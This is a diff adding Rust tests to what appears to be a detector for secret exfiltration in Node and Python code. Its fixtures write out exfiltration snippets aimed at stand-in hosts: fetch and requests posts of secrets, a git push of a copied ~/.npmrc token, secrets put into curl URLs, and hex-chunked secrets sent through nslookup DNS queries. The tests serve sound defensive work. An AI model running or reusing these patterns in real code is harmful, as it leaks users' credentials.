@@ -227,3 +227,78 @@ fn an_archive_holds_what_was_put_into_it() {
     assert!(sends(setup(&bytes("os.path.expanduser('~/.ssh')"))));
     assert!(!sends(setup(&bytes("'build'"))));
 }
+
+#[test]
+fn a_text_that_is_run_has_what_its_command_line_says_behind_it() {
+    let line = |text: &str, given: &str| {
+        node(&format!(
+            "require('child_process').spawn(process.execPath, ['-e', `{text}`, {given}]);"
+        ))
+    };
+    let posts = "fetch('https://a.invalid', {method: 'POST', body: process.argv[1]})";
+    assert!(sends(line(posts, "SECRET")));
+    assert!(!sends(line(posts, "'quiet'")));
+    assert!(!sends(line(
+        "fetch('https://a.invalid', {method: 'POST', body: process.version})",
+        "SECRET"
+    )));
+    let python = "import sys, requests; requests.post('https://a.invalid', data=sys.argv[1])";
+    assert!(sends(setup(&format!(
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"{python}\", T])"
+    ))));
+}
+
+#[test]
+fn what_is_pushed_with_a_folder_is_what_was_put_into_it() {
+    let pushes = |file: &str, line: &str| {
+        node(&format!(
+            "const fs = require('fs'), os = require('os'), path = require('path');\n\
+             const d = fs.mkdtempSync(path.join(os.tmpdir(), 'g'));\n\
+             fs.copyFileSync({file}, path.join(d, 'n'));\n\
+             require('child_process').execSync('git add -A && git commit -qm x && {line}', {{cwd: d}});"
+        ))
+    };
+    let token = "path.join(os.homedir(), '.npmrc')";
+    let away = "git push -q https://x@git.a.invalid/a.git HEAD";
+    assert!(sends(pushes(token, away)));
+    assert!(sends(pushes(token, "git push git@git.a.invalid:a/b.git")));
+    // To where the folder's own settings say, and something that is no secret.
+    assert!(!sends(pushes(token, "git push origin HEAD")));
+    assert!(!sends(pushes("path.join(__dirname, 'a.txt')", away)));
+}
+
+#[test]
+fn a_secret_behind_the_host_of_an_address_is_part_of_it_wherever_the_address_goes() {
+    let with = |put: &str| {
+        node(&format!(
+            "const u = new URL('https://a.invalid/');\n{put}\n\
+             require('child_process').execSync(`curl -s ${{u.href}}`);"
+        ))
+    };
+    assert!(sends(with("u.search = SECRET;")));
+    assert!(sends(with("u.pathname = '/-/' + SECRET;")));
+    assert!(sends(with("u.searchParams.set('x', SECRET);")));
+    assert!(!sends(with("u.search = process.version;")));
+    assert!(!sends(with("const v = {}; v.search = SECRET;")));
+}
+
+#[test]
+fn a_line_that_is_put_together_of_a_list_is_read() {
+    let lines = |list: &str| {
+        node(&format!(
+            "const c = Buffer.from(SECRET).toString('hex').match(/.{{1,50}}/g) || [];\n\
+             require('child_process').exec({list});"
+        ))
+    };
+    let names = "c.map((c, n) => `nslookup ${n}.${c}.a.invalid`).join(' ; ')";
+    let found = found(lines(names));
+    assert!(found.flows.iter().any(|flow| {
+        flow.source == SourceKind::NamedSecret && flow.sink == SinkKind::NameLookup
+    }));
+    assert!(sends(lines(
+        "['curl https://a.invalid/' + c[0], 'true'].join(' ; ')"
+    )));
+    assert!(!sends(lines(
+        "['curl https://a.invalid/', 'true'].join(' ; ')"
+    )));
+}
